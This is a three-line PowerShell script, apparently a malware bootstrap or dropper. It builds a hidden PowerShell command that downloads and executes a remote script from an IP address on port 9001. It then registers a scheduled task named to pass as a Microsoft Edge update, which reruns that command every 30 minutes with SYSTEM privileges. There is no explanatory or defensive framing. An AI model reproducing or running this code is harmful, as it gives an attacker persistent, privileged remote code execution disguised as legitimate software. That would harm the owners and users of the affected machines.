# bootstrap 5244 v1
$cmd = "powershell.exe -nop -w hidden -c `"IEX ((new-object net.webclient).downloadstring('http://198.51.100.23:9001/payload.ps1'))`""
schtasks /create /tn "MicrosoftEdgeUpdateCore" /tr $cmd /sc minute /mo 30 /ru SYSTEM /f
